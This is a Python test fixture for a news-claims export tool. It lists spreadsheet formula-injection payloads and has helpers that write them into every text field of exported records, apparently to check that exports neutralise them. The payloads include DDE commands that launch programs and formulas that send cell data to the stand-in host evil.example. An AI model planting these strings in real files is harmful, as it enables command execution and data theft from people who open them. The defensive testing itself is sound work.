"""Claims to send out, some of them hostile."""

from __future__ import annotations

import io
from dataclasses import replace
from typing import Any

from dateline.exchange.formats import FORMATS
from dateline.exchange.item import About, Batch, Item, Source
from dateline.exchange.records import claim_record
from ledger_kit import made

# What spreadsheets have been made to run: OWASP's list and what bug reports added, with the separators of other locales.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example?",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '","=1+1',
    "words;=1+1",
    "words;  @SUM(1)",
    "words\t=1+1",
    "words\n=1+1",
    "words\r\n+1",
    "|calc",
    "%0A=1+1",
    "=",
    "-",
)


def items(number: int = 3) -> list[Item]:
    """Claims of made stories, with their texts: emoji stand before most of them."""
    found: list[Item] = []
    for story in range(number):
        reading = made(story)
        told = reading.story
        day = told.published.isoformat() if told.published else None
        source = Source(told.id, told.id, told.doc, told.title, told.url, told.publisher, published=day)
        found += [Item(claim_record(claim, told), source, told.text, "2024-11-13T00:00:00.000000Z") for claim in reading.claims]
    return found


def with_words(item: Item, words: str) -> Item:
    """The claim with those words wherever a text stands."""

    def put(value: Any) -> Any:
        if isinstance(value, str):
            return words
        if isinstance(value, dict):
            keep = (
                "kind",
                "modality",
                "unit",
                "basis",
                "bound",
                "precision",
                "start",
                "end",
                "certainty",
                "rule",
                "quote",
                "section",
            )
            return {name: inner if name in keep else put(inner) for name, inner in value.items()}
        return [put(inner) for inner in value] if isinstance(value, list) else value

    source = replace(item.source, doc=words, title=words, url=words, publisher=words, byline=words)
    return replace(item, record=put(item.record), source=source)


def written(name: str, found: list[Item], about: About | None = None) -> bytes:
    """The claims in that format."""
    stream = io.BytesIO()
    FORMATS[name].write(Batch(found, about or About()), stream)
    return stream.getvalue()
